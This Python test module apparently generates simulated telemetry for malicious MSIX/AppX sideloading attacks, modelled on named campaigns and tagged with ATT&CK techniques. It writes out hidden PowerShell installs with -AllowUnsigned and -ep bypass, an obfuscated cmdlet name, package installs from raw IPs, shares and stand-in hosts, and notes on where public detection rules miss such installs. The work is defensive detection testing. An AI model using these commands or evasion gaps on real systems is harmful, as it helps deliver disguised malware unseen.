"""The attacks of a day: scenarios after real campaigns and after what public rules miss.

Campaigns, brands and publishers are those of the reference this project was written from; every scenario names its
model. Publishers of known attackers are real, all others and the hosts under ``.example`` are made up; public addresses
are of the network of example.com.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random
from typing import NamedTuple

from tests.company.attacks import Attack, Hostile, Payload
from tests.company.catalogue import MICROSOFT
from tests.company.deployments import APP_INSTALLER, REGISTER
from tests.company.hosts import Company, guid
from tests.company.journal import HOUR, SECOND
from tests.company.packaged import app_installer_image
from tests.company.processes import EDGE, SVCHOST, Telemetry, known

IMPERIOUS = "CN=IMPERIOUS TECHNOLOGIES LIMITED, O=IMPERIOUS TECHNOLOGIES LIMITED, L=Ringwood, C=GB"
FORESEE = (
    "CN=Foresee Consulting Inc., O=Foresee Consulting Inc., L=North York, S=Ontario, C=CA, SERIALNUMBER=1004913-1, "
    "OID.1.3.6.1.4.1.311.60.2.1.3=CA, OID.2.5.4.15=Private Organization"
)
_BLACK_STONE = "Black Stone Softwares And Solutions Ltd"
# Certificates that loaders of the FakeBat service were signed with; their IDs are only reconstructed.
_LOADERS = (
    "CN=Futurity Designs Ltd, O=Futurity Designs Ltd, L=Somerton, C=GB",
    "CN=Fodere Titanium Limited, O=Fodere Titanium Limited, L=London, S=England, C=GB",
    f"CN={_BLACK_STONE}, O={_BLACK_STONE}, L=Leicester, S=England, C=GB",
    "CN=Canis Software Inc., O=Canis Software Inc., L=Oakville, S=Ontario, C=CA",
)
# What campaigns pretended to be: brand, package name, file.
_LURES = (
    ("Zoom", "ZoomVideo.ZoomWorkplace", "Zoom-x64.msix"),
    ("Webex", "CiscoSystems.Webex", "Webex-x64.msix"),
    ("Google Chrome", "Google.Chrome", "Chrome-x64.msix"),
    ("AnyDesk", "AnyDesk.AnyDesk", "AnyDesk-x64.msix"),
    ("TeamViewer", "TeamViewer.TeamViewer", "TeamViewer-x64.msix"),
    ("Brave", "Brave.Brave", "Brave-x64.msix"),
    ("Notion", "Notion.Notion", "Notion-x64.msix"),
    ("TurboTax", "Intuit.TurboTax", "TurboTax-x64.msix"),
    ("Grammarly", "Grammarly.Grammarly", "Grammarly-x64.msix"),
    ("WinSCP", "WinSCP.WinSCP", "WinSCP-x64.msix"),
)
_ALLOW_UNSIGNED = 8388608
_REPUTATION = 32 << 32
_VCLIBS = "Microsoft.VCLibs.140.00.UWPDesktop"
_RUNTIME = "Microsoft.WindowsAppRuntime.1.6"


class Scenario(NamedTuple):
    """What an attacker does, in a function; its techniques of ATT&CK, and the model it is made after."""

    act: Callable[[Attack], None]
    techniques: tuple[str, ...]
    model: str

    @property
    def name(self) -> str:
        """Its name."""
        return self.act.__name__.strip("_")


def _lure(attack: Attack, publisher: str) -> Payload:
    title, name, file = attack.rng.choice(_LURES)
    return Payload(name, file, publisher, f"{attack.rng.randrange(2, 9)}.{attack.rng.randrange(40)}.1.26171", title)


def _downloads(attack: Attack, file: str) -> str:
    return f"{attack.host.profile_uri}/Downloads/{file}"


# ---------------------------------------------------------------- signed packages, clicked


def _fake_brand_from_web(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    uri = f"https://{payload.title.split()[-1].lower()}-download.example/{payload.file}"
    attack.install(payload, uri, needs=(_VCLIBS,), flags=_REPUTATION)
    attack.runs_script(payload)


def _fake_brand_from_downloads(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    attack.install(payload, _downloads(attack, payload.file), flags=_REPUTATION)
    attack.runs_script(payload, "usJzX.ps1")


def _webex_of_imperious(attack: Attack) -> None:
    payload = Payload("CiscoSystems.Webex", "Webex-x64.msix", IMPERIOUS, "2.10.1.26171", "Webex")
    attack.install(payload, _downloads(attack, payload.file), needs=(_VCLIBS,), flags=_REPUTATION)
    attack.runs_script(payload)


def _magniber_update(attack: Attack) -> None:
    payload = Payload("3669e262-ec02-4e9d-bcb4-3d008b4afac9", "edge_update.appx", FORESEE, "96.0.1072.0")
    attack.install(payload, _downloads(attack, payload.file))
    attack.runs_program(payload, "eediwjus\\eediwjus.exe")


def _loader_of_known_certificate(attack: Attack) -> None:
    payload = _lure(attack, attack.rng.choice(_LOADERS))
    uri = f"https://{payload.title.split()[0].lower()}-desktop.example/download/{payload.file}"
    attack.install(payload, uri, needs=(_RUNTIME,), flags=_REPUTATION)
    attack.runs_script(payload)


def _advanced_installer_stub(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    attack.install(payload, f"https://{payload.name.lower()}.example/{payload.file}", needs=(_VCLIBS,))
    attack.runs_stub(payload)


def _renamed_stub(attack: Attack) -> None:
    payload = Payload("PcCleaner.Suite", "PcCleaner.msix", attack.fresh_publisher(), "3.1.0.0", "PC Cleaner")
    attack.install(payload, _downloads(attack, payload.file))
    attack.runs_stub(payload, "bin\\updatehost.exe")


def _bundle_with_full_trust_within(attack: Attack) -> None:
    payload = Payload("AnyDesk.Client", "AnyDesk.msixbundle", attack.fresh_publisher(), "9.0.4.0", "AnyDesk")
    uri = f"https://anydesk-app.example/{payload.file}"
    bundle = payload.full_name.replace("_x64__", "_neutral_~_")
    attack.install(
        payload,
        uri,
        main=bundle,
        form="bundle",
        inner=(("AnyDesk_x64.msix", payload.full_name),),
        uris=(uri, f"{uri}\\AnyDesk_x64.msix"),
        added=(bundle, payload.full_name),
    )
    attack.runs_program(payload, "AnyDesk.exe")


def _lookalike_name(attack: Attack) -> None:
    name = attack.rng.choice(("Micros0ft.Teams", "Microsoft.Tearns", "MlcrosoftTeams", "Micorsoft.Outlook"))
    payload = Payload(name, "TeamsSetup_x64.msix", attack.fresh_publisher(), "24.1.0.0", "Microsoft Teams")
    place = attack.rng.choice(("cdn.discordapp.com/attachments/1177", "teams-client.workers.dev", "mega.nz/file"))
    attack.install(payload, f"https://{place}/{payload.file}")
    attack.runs_program(payload, "ms-teams.exe")


def _publisher_id_in_name(attack: Attack) -> None:
    payload = Payload("8wekyb3d8bbwe.Zoom", "Zoom.msix", attack.fresh_publisher())
    attack.install(payload, _downloads(attack, payload.file), needs=(_VCLIBS,))
    attack.runs_script(payload)


# ---------------------------------------------------------------- unsigned, developer mode, external location


def _unsigned(attack: Attack) -> None:
    payload = Payload("Viewer.Pack", "viewer.msix", attack.unsigned_publisher())
    extra = attack.rng.choice((1, 64, 262144 | 33554432, 1 | 268435456))  # other flags beside bit 23
    uri = f"{attack.host.profile_uri}/AppData/Local/Temp/{payload.file}"
    attack.shell(f'powershell.exe -w hidden -c "Add-AppxPackage -Path $env:TEMP\\{payload.file} -AllowUnsigned"')
    attack.script(f"Add-AppxPackage -Path $env:TEMP\\{payload.file} -AllowUnsigned -ForceApplicationShutdown")
    attack.install(payload, uri, "powershell.exe", flags=_ALLOW_UNSIGNED | extra, signer="")
    attack.runs_program(payload)


def _unsigned_by_splatting(attack: Attack) -> None:
    payload = Payload("Meeting.Notes", "notes.msix", attack.unsigned_publisher())
    uri = f"file:///C:/ProgramData/{payload.file}"
    attack.script(f"$p = @{{ Path = 'C:\\ProgramData\\{payload.file}'; AllowUnsigned = $true }}\nAdd-Appx`Package @p")
    attack.install(payload, uri, "powershell.exe", flags=_ALLOW_UNSIGNED | 64, signer="")
    attack.runs_program(payload)


def _unsigned_by_package_manager(attack: Attack) -> None:
    payload = Payload("Screen.Share", "share.msix", attack.unsigned_publisher())
    uri = f"{attack.host.profile_uri}/AppData/Roaming/{payload.file}"
    attack.script(
        "$m = [Windows.Management.Deployment.PackageManager,Windows.Management.Deployment,ContentType=WindowsRuntime]"
        "::new(); $o = [Windows.Management.Deployment.AddPackageOptions]::new(); $o.AllowUnsigned = $true; "
        f"$m.AddPackageByUriAsync([Uri]'{uri}', $o)"
    )
    attack.install(payload, uri, "powershell.exe", flags=_ALLOW_UNSIGNED | 16777216, signer="")
    attack.runs_program(payload)


def _developer_mode_as_microsoft(attack: Attack) -> None:
    payload = Payload("Microsoft.WindowsUpdateHelper", "AppxManifest.xml", MICROSOFT, "1.0.4.0")
    _registers(attack, payload, f"{attack.host.profile}\\AppData\\Local\\Temp\\wu\\AppxManifest.xml")


def _developer_mode_from_public_folder(attack: Attack) -> None:
    payload = Payload(guid(attack.rng), "AppxManifest.xml", "CN=Admin")
    _registers(attack, payload, "C:\\Users\\Public\\Libraries\\svc\\AppxManifest.xml")


def _registers(attack: Attack, payload: Payload, manifest: str) -> None:
    attack.shell(f'powershell.exe -ep bypass -c "Add-AppxPackage -Register {manifest}"')
    attack.script(f"Add-AppxPackage -Register '{manifest}' -ForceApplicationShutdown")
    attack.install(
        payload,
        manifest,
        "powershell.exe",
        operation=REGISTER,
        flags=2 | 1,
        server_flags=0x400040 << 32,
        source="",
        signer="",
    )
    folder = manifest.rpartition("\\")[0]
    parent = known(attack.host, SVCHOST, f"{SVCHOST} -k DcomLaunch -p", service=True)
    app = attack.telemetry.start(attack.host, attack.time, f"{folder}\\helper.exe", parent=parent)
    attack.telemetry.call(attack.host, attack.time + 5 * SECOND, app, "cdn-sync.example", "93.184.216.9")


def _external_location_in_user_folder(attack: Attack) -> None:
    payload = Payload("Graphics.Overlay", "overlay.msix", attack.fresh_publisher())
    folder = f"{attack.host.profile}\\AppData\\Roaming\\Overlay"
    uri = f"{attack.host.profile_uri}/AppData/Roaming/Overlay/{payload.file}"
    attack.script(f"Add-AppxPackage -Path '{folder}\\{payload.file}' -ExternalLocation '{folder}'")
    attack.install(payload, uri, "powershell.exe", external=folder)
    parent = known(attack.host, SVCHOST, f"{SVCHOST} -k DcomLaunch -p", service=True)
    app = attack.telemetry.start(attack.host, attack.time, f"{folder}\\overlay.exe", parent=parent)
    attack.telemetry.call(attack.host, attack.time + 3 * SECOND, app, "overlay-cdn.example", "93.184.216.17")


# ---------------------------------------------------------------- trust made, refusals


def _certificate_then_install(attack: Attack) -> None:
    payload = Payload("Microsoft.Teams.Update", "TeamsUpdate.msix", MICROSOFT, "26.1.0.0", "Microsoft Teams")
    attack.trusts_certificate(payload.publisher)  # a self-signed certificate may carry Microsoft's name
    attack.install(payload, _downloads(attack, payload.file), "powershell.exe")
    attack.runs_program(payload)


def _sideloading_allowed_then_install(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    attack.allows_sideloading()
    attack.install(payload, _downloads(attack, payload.file))
    attack.runs_script(payload)


def _untrusted_root_then_install(attack: Attack) -> None:
    payload = Payload("Invoice.Reader", "InvoiceReader.msix", attack.fresh_publisher())
    uri = _downloads(attack, payload.file)
    for _ in range(2):
        attack.install(payload, uri, error="0x800b0109", failed_early=True)
    attack.trusts_certificate(payload.publisher)
    attack.install(payload, uri)
    attack.runs_program(payload)


def _sideloading_refused_then_install(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    uri = _downloads(attack, payload.file)
    attack.install(payload, uri, error="0x80073cff")
    attack.allows_sideloading()
    attack.install(payload, uri, needs=(_VCLIBS,))
    attack.runs_script(payload)


def _refused_three_times(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    for _ in range(3):
        attack.install(payload, _downloads(attack, payload.file), error="0x80073d1b", flags=_REPUTATION)


# ---------------------------------------------------------------- sources and ways


def _provisioned_by_script(attack: Attack) -> None:
    payload = Payload("Desktop.Assistant", "assistant.msix", attack.fresh_publisher())
    path = f"C:\\Users\\Public\\{payload.file}"
    attack.shell(
        f'powershell.exe -c "Add-AppxProvisionedPackage -Online -PackagePath {path} -SkipLicense"', level="High"
    )
    attack.script(f"Add-AppxProvisionedPackage -Online -PackagePath '{path}' -SkipLicense")
    attack.provision(payload, f"file:///C:/Users/Public/{payload.file}")
    attack.runs_program(payload)


def _protocol_link(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    place = f"{payload.title.split()[-1].lower()}-meeting.example"
    link = f"ms-appinstaller:?source=https://{place}/join.appinstaller"
    host = attack.host
    image = app_installer_image()
    installer = attack.telemetry.start(host, attack.time, image, f'"{image}" "{link}"', known(host, EDGE))
    attack.telemetry.call(host, attack.time + SECOND, installer, place, "93.184.216.44")
    attack.shows("a link with the scheme ms-appinstaller")
    attack.waits(10, 40)
    attack.install(payload, f"https://{place}/{payload.file}", operation=APP_INSTALLER, requested="join.appinstaller")
    attack.runs_script(payload)


def _webdav(attack: Attack) -> None:
    payload = Payload("Report.Viewer", "report.msix", attack.fresh_publisher())
    attack.install(payload, f"file://files.cloud-docs.example@SSL/DavWWWRoot/{payload.file}")
    attack.runs_program(payload)


def _share_by_address(attack: Attack) -> None:
    payload = Payload("Setup.Agent", "agent.msix", attack.fresh_publisher())
    attack.shell("powershell.exe -nop -c \"Add-AppxPackage '\\\\93.184.216.23\\pub\\agent.msix'\"")
    attack.script("Add-AppxPackage '\\\\93.184.216.23\\pub\\agent.msix'")
    attack.install(payload, "file://93.184.216.23/pub/agent.msix", "powershell.exe")
    attack.runs_program(payload)


def _web_by_address(attack: Attack) -> None:
    payload = _lure(attack, attack.fresh_publisher())
    attack.install(payload, f"http://93.184.216.77:8080/{payload.file}")
    attack.runs_program(payload)


SCENARIOS = (
    Scenario(_fake_brand_from_web, ("T1204.002", "T1553.005"), "GHOSTPULSE, FakeBat"),
    Scenario(_webex_of_imperious, ("T1204.002", "T1553.005"), "IcedID's fake Webex, 2023-08"),
    Scenario(_unsigned, ("T1553.005", "T1059.001"), "public rules compare Flags with one number"),
    Scenario(_developer_mode_as_microsoft, ("T1553.006", "T1036.005"), "developer mode checks no signature"),
    Scenario(_certificate_then_install, ("T1553.004", "T1036.005"), "no public rule looks at TrustedPeople"),
    Scenario(_sideloading_allowed_then_install, ("T1112", "T1204.002"), "Sigma's rule does not look what follows"),
    Scenario(_untrusted_root_then_install, ("T1553.004", "T1204.002"), "public rules know one error code"),
    Scenario(_sideloading_refused_then_install, ("T1112", "T1204.002"), "as above"),
    Scenario(_provisioned_by_script, ("T1059.001", "T1204.002"), "public rules know Add-AppxPackage alone"),
    Scenario(_protocol_link, ("T1204.001", "T1218"), "Storm-1113; the documented form has no slashes"),
    Scenario(_webdav, ("T1204.002", "T1105"), "hosts in 854 that are no web host"),
    Scenario(_share_by_address, ("T1059.001", "T1105"), "as above"),
    Scenario(_external_location_in_user_folder, ("T1553.005", "T1036.005"), "public rules know no ExternalLocation"),
    Scenario(_magniber_update, ("T1204.002", "T1553.002"), "Magniber, 2022-01"),
    Scenario(_lookalike_name, ("T1036.005", "T1204.002"), "Storm-1674's fake Teams"),
    Scenario(_advanced_installer_stub, ("T1218", "T1204.002"), "Storm-0569 and others"),
    Scenario(_renamed_stub, ("T1218", "T1204.002"), "fake PC Cleaner, 2026-04; public rules want the path"),
    Scenario(_bundle_with_full_trust_within, ("T1204.002",), "full trust stands in 478, not in 400"),
    Scenario(_loader_of_known_certificate, ("T1204.002", "T1553.002"), "FakeBat's certificates, 2023-09 to 2024-07"),
    Scenario(_publisher_id_in_name, ("T1036.005", "T1204.002"), "public rules look for the ID anywhere"),
    Scenario(_unsigned_by_splatting, ("T1553.005", "T1059.001"), "public rules look for a parameter with a blank"),
    Scenario(_fake_brand_from_downloads, ("T1204.002", "T1553.005"), "Sangria Tempest"),
    Scenario(_web_by_address, ("T1204.002", "T1105"), "LummaC2 through FakeBat"),
    Scenario(_refused_three_times, ("T1204.002",), "SmartScreen refuses"),
    Scenario(_developer_mode_from_public_folder, ("T1553.006", "T1059.001"), "as developer mode above"),
    Scenario(_unsigned_by_package_manager, ("T1553.005", "T1059.001"), "no cmdlet's name in the script"),
)


def attack_company(company: Company, telemetry: Telemetry, rng: Random, number: int) -> list[Hostile]:
    """So many attacks, each on a host of its own while hosts last; scenarios in turn, from one by chance."""
    begin = rng.randrange(len(SCENARIOS))
    hosts = rng.sample(company.hosts, min(number, len(company.hosts)))
    done = []
    for at in range(number):
        scenario = SCENARIOS[(begin + at) % len(SCENARIOS)]
        start = int(rng.triangular(7.0, 18.0, 11.0) * HOUR)
        attack = Attack(telemetry, rng, hosts[at % len(hosts)], start)
        scenario.act(attack)
        done.append(attack.record(f"attack-{at + 1:02}", scenario.name, scenario.techniques))
    return done
